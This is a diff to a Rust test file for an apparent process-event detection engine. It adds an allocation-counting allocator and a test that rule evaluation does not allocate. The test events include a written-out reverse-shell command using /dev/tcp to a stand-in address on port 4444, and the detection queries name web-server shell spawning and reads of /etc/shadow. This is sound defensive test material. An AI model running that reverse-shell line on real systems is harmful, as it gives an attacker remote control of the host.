@@ -6,6 +6,8 @@
 //! Every case runs twice: as a replayed ECS document and, where a `ProcessEvent` can express it,
 //! as a live event.
 
+use std::alloc::{GlobalAlloc, Layout, System};
+use std::cell::Cell;
 use std::sync::{Arc, OnceLock};
 
 use serde_json::{json, Value};
@@ -13,7 +15,8 @@ use serde_json::{json, Value};
 use execsentry::eql::Options;
 use execsentry::event::{Action, HostInfo, Ids, ProcessEvent, ProcessInfo, SourceFacts};
 use execsentry::rules::builtin::REVERSE_SHELL_RULE_ID;
-use execsentry::rules::{load_builtin, Outcome, RuleSet};
+use execsentry::rules::load::load_source;
+use execsentry::rules::{load_builtin, Origin, Outcome, RuleSet};
 use execsentry::{Document, JsonDocument};
 
 fn rules() -> &'static RuleSet {
@@ -345,4 +348,105 @@ fn process_events() {
         php,
         Action::Exec
     )));
+}
+
+// ---- RuleSet::evaluate does not allocate ----
+
+/// Counts allocations made on the current thread while `COUNTING` is set.
+struct Counting;
+
+thread_local! {
+    static COUNTING: Cell<bool> = const { Cell::new(false) };
+    static ALLOCATIONS: Cell<usize> = const { Cell::new(0) };
+}
+
+fn note() {
+    let _ = COUNTING.try_with(|c| {
+        if c.get() {
+            let _ = ALLOCATIONS.try_with(|a| a.set(a.get() + 1));
+        }
+    });
+}
+
+unsafe impl GlobalAlloc for Counting {
+    unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
+        note();
+        // SAFETY: forwarded unchanged to the system allocator.
+        unsafe { System.alloc(layout) }
+    }
+    unsafe fn alloc_zeroed(&self, layout: Layout) -> *mut u8 {
+        note();
+        // SAFETY: forwarded unchanged to the system allocator.
+        unsafe { System.alloc_zeroed(layout) }
+    }
+    unsafe fn realloc(&self, ptr: *mut u8, layout: Layout, new_size: usize) -> *mut u8 {
+        note();
+        // SAFETY: forwarded unchanged to the system allocator.
+        unsafe { System.realloc(ptr, layout, new_size) }
+    }
+    unsafe fn dealloc(&self, ptr: *mut u8, layout: Layout) {
+        // SAFETY: forwarded unchanged to the system allocator.
+        unsafe { System.dealloc(ptr, layout) }
+    }
+}
+
+#[global_allocator]
+static GLOBAL: Counting = Counting;
+
+fn allocations_in(f: impl FnOnce()) -> usize {
+    ALLOCATIONS.with(|a| a.set(0));
+    COUNTING.with(|c| c.set(true));
+    f();
+    COUNTING.with(|c| c.set(false));
+    ALLOCATIONS.with(|a| a.get())
+}
+
+#[test]
+fn evaluate_does_not_allocate() {
+    // The seed rule plus rules of other categories and an `any` rule, so every dispatch path
+    // (matching category, other categories, `any`) runs.
+    let mut reports = load_builtin(&Options::default());
+    for (i, query) in [
+        r#"process where process.parent.name : "php-fpm*" and process.name in ("sh", "bash")"#,
+        r#"network where destination.port == 4444"#,
+        r#"file where file.path : "/etc/shadow""#,
+        r#"any where event.action == "exec" and user.name == "www-data""#,
+    ]
+    .iter()
+    .enumerate()
+    {
+        let src = format!(
+            "[rule]\nrule_id = \"r{i}\"\nname = \"r{i}\"\nseverity = \"low\"\ntype = \"eql\"\nquery = '''{query}'''\n"
+        );
+        reports.push(load_source(
+            Origin::Builtin("test"),
+            &src,
+            &Options::default(),
+        ));
+    }
+    let (set, rest) = RuleSet::from_reports(reports);
+    assert!(rest.is_empty(), "{rest:?}");
+    assert_eq!(set.len(), 5);
+
+    let shell = ["bash", "-c", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"];
+    let php: Option<(&str, &[&str])> = Some(("/usr/sbin/php-fpm8.2", &["php-fpm: pool www"]));
+    let typed = event(&shell, php, Action::Exec);
+    let benign = event(&["ls", "-la"], None, Action::Exec);
+    let json_hit = doc(base());
+    let json_also = doc(with("/event/category", Some(json!(["network", "process"]))));
+    let run = |matched: &mut [usize; 5]| {
+        for _ in 0..100 {
+            set.evaluate(&typed, |r| matched[r.index()] += 1);
+            set.evaluate(&benign, |r| matched[r.index()] += 1);
+            set.evaluate(&json_hit, |r| matched[r.index()] += 1);
+            set.evaluate(&json_also, |r| matched[r.index()] += 1);
+        }
+    };
+    run(&mut [0; 5]); // warm-up: lazily built per-thread matcher caches
+    let mut matched = [0usize; 5];
+    assert_eq!(allocations_in(|| run(&mut matched)), 0);
+    // Seed and r0: the typed shell and both JSON documents. The network rule sees json_also
+    // (no destination.port); the file rule sees nothing. The `any` rule: every event by
+    // www-data with event.action exec (typed shell, benign is www-data too, both JSON docs).
+    assert_eq!(matched, [300, 300, 0, 0, 400]);
 }
